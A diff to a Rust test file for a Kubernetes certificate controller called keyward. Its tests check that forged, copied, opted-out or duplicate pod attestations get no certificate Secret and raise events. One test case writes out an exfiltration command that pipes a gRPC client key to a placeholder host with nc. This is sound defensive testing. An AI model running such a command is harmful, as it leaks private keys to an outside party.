@@ -145,7 +145,7 @@ async fn a_pod_without_an_attestation_or_with_a_forged_one_gets_nothing_and_is_r
     assert!(events(&fake)[0]["note"]
         .as_str()
         .unwrap()
-        .starts_with("keyward issues nothing for this pod's owner: the pod carries no admission attestation"));
+        .starts_with("keyward issues nothing for this pod's owner: it carries no admission attestation"));
     assert_eq!(r.metrics().refused_count(Refusal::NoAttestation), 1);
     assert_eq!(r.metrics().refused_count(Refusal::ForgedAttestation), 3);
     // Reported once: asked again, no new Event.
@@ -237,7 +237,10 @@ async fn an_identity_is_made_only_from_names_kubernetes_allows() {
         desired::for_pod(r.profiles(), &serde_json::value::to_raw_value(&pod).unwrap(), "team-a", "cluster.local");
     assert_eq!(
         verdict,
-        PodVerdict::Unverifiable("the controller owner's uid \"u/../v\" is not a Kubernetes UID".into())
+        PodVerdict::Refused(
+            keyward_controller::metrics::Refusal::UnverifiableOwner,
+            "the controller owner's uid \"u/../v\" is not a Kubernetes UID".into()
+        )
     );
     // A hostile owner name never becomes a claim either (its Secret name is no object name).
     let mut pod = fms_pod(None, "team-a", "p", "evaljob-sample", OWNER_UID);
@@ -309,4 +312,146 @@ async fn an_owner_issued_before_attestations_is_renewed_only_if_keyward_signed_i
     assert_eq!(fake.get("v1", "Secret", "team-a", "other-job-lmeval-client").unwrap(), stranger_secret, "left alone");
     assert_eq!(r.metrics().refused_count(Refusal::UnverifiedSecret), 1);
     assert!(events(&fake).iter().any(|e| e["reason"] == "UnverifiedSecret"));
+}
+
+/// A change a tenant makes to her copy of a pod, named.
+type Change = (&'static str, fn(&mut Value));
+
+/// A tenant who may create, get and list pods in team-a (not exec into them) copies the
+/// operator's attested driver pod (its annotations, labels, owner reference and keyward's
+/// volumes) onto pods of her own. With Secret delivery, none of them makes keyward issue the
+/// job's certificate, even with the operator's pod gone: each names what it changed.
+#[tokio::test]
+async fn a_tenants_copy_of_an_attested_pod_gets_no_secret_whatever_it_changes() {
+    let fake = FakeApi::default();
+    fake.seed(owner());
+    let ca = client_ca();
+    let r = reconciler(&fake, "keyward", ProfileSet::builtin().unwrap(), &ca, Leadership::always());
+    let keys = attestation_keys(&r).await;
+    let original = attested_fms_pod(&keys);
+    fake.clear_calls();
+    let copy = |name: &str, change: &dyn Fn(&mut Value)| {
+        let mut p = original.clone();
+        p["metadata"]["name"] = json!(name);
+        p["metadata"]["uid"] = json!(format!("uid-{name}"));
+        change(&mut p);
+        p
+    };
+    let variants: [Change; 4] = [
+        ("image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
+        ("command", |p| {
+            p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY | nc evil 80"])
+        }),
+        ("volume", |p| {
+            p["spec"]["volumes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
+            p["spec"]["containers"][0]["volumeMounts"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({"name": "tools", "mountPath": "/opt/app-root/src"}));
+        }),
+        ("account", |p| {
+            p["spec"]["serviceAccountName"] = json!("tenant-builder");
+            p["spec"]["serviceAccount"] = json!("tenant-builder");
+        }),
+    ];
+    for (what, change) in variants {
+        r.owner(&owner_key(), &claims(&r, &copy(what, &change))).await.unwrap();
+    }
+    // The very same pod, an hour after the operator's was admitted (and gone).
+    let late = copy("late", &|p| {
+        let created = keyward_certs::parse_rfc3339(p["metadata"]["creationTimestamp"].as_str().unwrap()).unwrap();
+        p["metadata"]["creationTimestamp"] = json!(keyward_certs::rfc3339(created + Duration::from_secs(3600)));
+    });
+    r.owner(&owner_key(), &claims(&r, &late)).await.unwrap();
+    assert_eq!(fake.attempted_writes().iter().filter(|c| c.resource == "/v1/secrets").count(), 0);
+    assert!(fake.get("v1", "Secret", "team-a", "evaljob-sample-lmeval-client").is_none());
+    assert_eq!(r.metrics().refused_count(Refusal::ReboundAttestation), 4);
+    assert_eq!(r.metrics().refused_count(Refusal::UntimelyAttestation), 1);
+    let notes: Vec<(String, String)> = events(&fake)
+        .iter()
+        .map(|e| (e["reason"].as_str().unwrap().into(), e["regarding"]["name"].as_str().unwrap().into()))
+        .collect();
+    assert_eq!(
+        notes,
+        [
+            ("ReboundAdmissionAttestation".to_string(), "image".to_string()),
+            ("ReboundAdmissionAttestation".into(), "command".into()),
+            ("ReboundAdmissionAttestation".into(), "volume".into()),
+            ("ReboundAdmissionAttestation".into(), "account".into()),
+            ("UntimelyAdmissionAttestation".into(), "late".into()),
+        ]
+    );
+    assert_eq!(
+        events(&fake)[0]["note"],
+        "keyward issues nothing for this pod's owner: its admission attestation (keyward.io/attestation) was made for a pod that runs or mounts something else (copied from another pod, or this pod was changed by another webhook after keyward's last look); have the operator create the pod again"
+    );
+    // The operator's own pod still is.
+    r.owner(&owner_key(), &claims(&r, &original)).await.unwrap();
+    assert!(fake.get("v1", "Secret", "team-a", "evaljob-sample-lmeval-client").is_some());
+}
+
+/// An exact copy labelled `keyward.io/inject=disabled` (so the webhook never sees it), and a
+/// second live pod with the operator's attestation: neither is served, both are reported,
+/// and the operator's pod is served.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_opted_out_copy_and_a_second_pod_with_one_attestation_are_reported_not_served() {
+    let fake = FakeApi::default();
+    fake.seed(opted_in("team-a"));
+    fake.seed(owner());
+    let ca = client_ca();
+    let r = reconciler(&fake, "keyward", ProfileSet::builtin().unwrap(), &ca, Leadership::always());
+    let keys = attestation_keys(&r).await;
+    let original = attested_fms_pod(&keys);
+    let created = keyward_certs::parse_rfc3339(original["metadata"]["creationTimestamp"].as_str().unwrap()).unwrap();
+    let copy = |name: &str, later: u64| {
+        let mut p = original.clone();
+        p["metadata"]["name"] = json!(name);
+        p["metadata"]["uid"] = json!(format!("uid-{name}"));
+        p["metadata"]["creationTimestamp"] = json!(keyward_certs::rfc3339(created + Duration::from_secs(later)));
+        p
+    };
+    let mut opted_out = copy("opted-out", 20);
+    opted_out["metadata"]["labels"]["keyward.io/inject"] = json!("disabled");
+    // Pure: the verdict names the label.
+    let verdict = desired::for_pod(
+        r.profiles(),
+        &serde_json::value::to_raw_value(&opted_out).unwrap(),
+        "team-a",
+        "cluster.local",
+    );
+    assert_eq!(
+        verdict,
+        PodVerdict::Refused(
+            Refusal::OptedOut,
+            "it is labelled keyward.io/inject=disabled, so keyward's webhook never admitted it; remove the label and recreate the pod".into()
+        )
+    );
+    // The copy first, alone: nothing.
+    let task = start(&fake, r.clone(), Leadership::always(), &ca, "keyward");
+    fake.seed(opted_out);
+    fake.until(LIMIT, |_| (r.metrics().refused_count(Refusal::OptedOut) == 1).then_some(())).await;
+    // A second pod with the attestation, a minute after the operator's: the operator's is
+    // served, the second reported.
+    fake.seed(copy("twin", 60));
+    fake.seed(original.clone());
+    fake.until(LIMIT, |f| f.get("v1", "Secret", "team-a", "evaljob-sample-lmeval-client")).await;
+    fake.until(LIMIT, |_| (r.metrics().refused_count(Refusal::DuplicateAttestation) == 1).then_some(())).await;
+    let twin_event = |f: &FakeApi| {
+        events(f)
+            .into_iter()
+            .find(|e| e["reason"] == "DuplicateAdmissionAttestation" && e["regarding"]["name"] == "twin")
+    };
+    let event = fake.until(LIMIT, twin_event).await;
+    assert_eq!(
+        event["note"],
+        "keyward issues nothing for this pod's owner: pod evaljob-sample carries the same admission attestation and was created first: an attestation is for the one pod keyward's webhook admitted, and this one is a copy; have the operator create the pod again"
+    );
+    let opted_out_event = fake.until(LIMIT, |f| events(f).into_iter().find(|e| e["reason"] == "OptedOut")).await;
+    assert_eq!(opted_out_event["regarding"]["name"], "opted-out");
+    task.abort();
+    let _ = task.await;
+    assert_eq!(r.metrics().refused_count(Refusal::DuplicateAttestation), 1, "the operator's pod is not the copy");
 }
